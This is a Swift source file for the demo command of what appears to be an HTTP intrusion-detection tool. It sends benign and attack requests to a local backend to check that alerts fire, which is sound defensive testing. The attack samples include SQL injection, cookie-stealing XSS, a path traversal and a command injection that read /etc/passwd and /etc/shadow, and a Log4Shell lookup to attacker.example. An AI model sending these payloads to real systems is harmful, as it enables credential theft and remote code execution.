import Alerts
import ArgumentParser
import Capture
import Console
import Detection
import JSONOutput
import NetworkTypes
import Pipeline
import Synchronization

#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

struct DemoCommand: ParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "demo",
        abstract: "See diffai work: a built-in backend, the monitor on lo, and a mix of benign and attack requests.",
        discussion: "Runs until interrupted (Ctrl-C), or with --once exits after the sample traffic. Needs root (or CAP_NET_RAW) to capture."
    )

    @Option(help: "Port of the built-in backend (and of the monitor's filter).")
    var port: UInt16 = 8080
    @Option(help: "Interface to capture on.")
    var interface = "lo"
    @Flag(help: "Exit after the sample traffic instead of running until interrupted.")
    var once = false
    @OptionGroup var detectionOptions: DetectionOptions
    @OptionGroup var files: AlertFileOptions
    @OptionGroup var console: ConsoleOptions
    var alertLog: String { files.alertLog }
    var eve: String { files.eve }

    /// What it is, the request line, extra header lines, the body.
    static let traffic: [(label: String, line: String, headers: String, body: String)] = [
        ("benign: home page", "GET / HTTP/1.1", "", ""),
        ("benign: search", "GET /search?q=running+shoes&page=2 HTTP/1.1", "", ""),
        ("attack: SQL injection", "GET /items?id=1%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1", "", ""),
        ("benign: a city name in a parameter", "GET /index.php?q=madrid HTTP/1.1", "", ""),
        ("attack: cross-site scripting", "GET /comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", "", ""),
        ("attack: path traversal", "GET /download?file=../../../../etc/passwd HTTP/1.1", "", ""),
        ("benign: login form", "POST /login HTTP/1.1", "Content-Type: application/x-www-form-urlencoded\r\n", "user=alice&password=s3cr3t!!"),
        ("attack: command injection", "GET /ping?host=127.0.0.1;cat%20/etc/shadow HTTP/1.1", "", ""),
        ("attack: Log4Shell", "GET /api HTTP/1.1", "X-Api-Version: ${jndi:ldap://attacker.example/a}\r\n", ""),
        ("attack: scanner", "GET /admin HTTP/1.1", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n", ""),
    ]

    static func wire(_ entry: (label: String, line: String, headers: String, body: String)) -> String {
        var text = entry.line + "\r\nHost: demo.local\r\nConnection: close\r\n" + entry.headers
        if !entry.body.isEmpty { text += "Content-Length: \(entry.body.utf8.count)\r\n" }
        return text + "\r\n" + entry.body
    }

    func run() throws {
        let backend: DemoBackend
        do {
            backend = try DemoBackend(port: port)
        } catch {
            printError("diffai: \(error)")
            throw ExitCode(69)
        }
        var options = PcapLiveSource.Options()
        options.interface = interface
        options.filter = "tcp port \(port)"
        let source = try AlertFileOptions.openCapture(options)
        let report: @Sendable (String) -> Void = { printError("diffai: \($0)") }
        let output = BufferedFileOutput(descriptor: STDOUT_FILENO)
        let outputs = files.makeOutputs(standardOutput: output, report: report)
        let detection = DetectionSink(detector: try detectionOptions.makeDetector(), outputs: outputs, waitForResponse: false)
        let engine = MonitorEngine(options: PipelineOptions(), sink: detection, memoryBudget: MemoryBudget(), diagnostics: report)
        let bridge = ConsoleBridge(detector: detection.detector, outputs: outputs, rulesPath: detectionOptions.rules.path,
                                   threshold: detectionOptions.ml.threshold)
        let server = console.start(mode: "demo", hooks: bridge.hooks(mode: "demo"), history: files.history, feed: bridge.feed,
                                   trainingAudit: bridge.detector.benignAudit)
        var lastPublished = 0.0
        engine.maintenance = {
            output.flush()
            if server != nil, SystemClock.monotonicSeconds() - lastPublished >= 1 {
                lastPublished = SystemClock.monotonicSeconds()
                bridge.feed.publishStatistics(MonitorCommand.consoleStatistics(engine, source, detection))
            }
        }
        Signals.installStopFlag()
        backend.start()
        say("diffai demo: backend on 127.0.0.1:\(port), monitor on \(interface), alerts to stdout, \(alertLog) and \(eve)")
        say("sending \(Self.traffic.count) requests; the benign ones should stay quiet\n")
        let finished = Atomic<Bool>(false)
        let port = self.port
        let once = self.once
        Threads.detach {
            usleep(300_000)
            for entry in Self.traffic {
                say("→ \(entry.label): \(entry.line.split(separator: " ")[0]) \(entry.line.split(separator: " ")[1])")
                sendDemoRequest(port: port, Self.wire(entry))
                usleep(250_000)
            }
            usleep(500_000)
            if once { finished.store(true, ordering: .relaxed) }
        }
        engine.run(source: source) { finished.load(ordering: .relaxed) || Signals.stopping }
        output.flush()
        server?.stop()
        say("\ndiffai demo: \(engine.core.httpStatistics.requests) requests seen, \(detection.alertsRaised) alerts (see \(alertLog) and \(eve))")
        say("next: `diffai monitor --port PORT` beside a real backend (see deploy/)")
        try checkAlertOutputs(detection.outputs)
    }
}

/// One line straight to stdout: the traffic thread and the alert writer interleave by line.
func say(_ text: String) {
    var line = text + "\n"
    line.withUTF8 { _ = write(STDOUT_FILENO, $0.baseAddress, $0.count) }
}

